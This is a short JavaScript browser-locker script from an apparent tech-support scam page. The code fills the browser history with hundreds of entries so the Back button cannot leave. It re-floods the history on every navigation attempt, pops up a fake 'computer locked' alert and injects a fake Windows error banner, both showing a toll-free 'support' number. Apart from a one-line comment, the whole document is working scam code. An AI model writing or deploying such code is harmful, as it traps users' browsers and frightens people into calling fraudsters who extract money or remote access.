// corpus note: floods the session history with pushState entries and re-pushes on popstate so the Back button never leaves the scam page
(function () {
  var TOLL = "1-844-555-0193";
  var n = 0;

  function flood(count) {
    for (var i = 0; i < count; i++) {
      history.pushState({ lock: ++n }, "", location.pathname + "?id=" + n + "#alert");
    }
  }

  flood(250);

  window.addEventListener("popstate", function () {
    flood(50);
    document.getElementById("err-code") && (document.getElementById("err-code").textContent = "Error # 0x80070424 (" + n + ")");
    window.alert("Your computer has been locked due to suspicious activity.\nPlease call Support: " + TOLL);
  });

  window.onhashchange = function () { flood(10); };

  var banner = document.createElement("div");
  banner.style.cssText = "position:fixed;top:0;left:0;right:0;padding:14px;background:#c00;color:#fff;font:bold 18px Arial;text-align:center;z-index:99999";
  banner.innerHTML = "<span id='err-code'>Error # 0x80070424</span> &mdash; Windows has blocked this computer. Call " + TOLL;
  document.documentElement.appendChild(banner);
})();
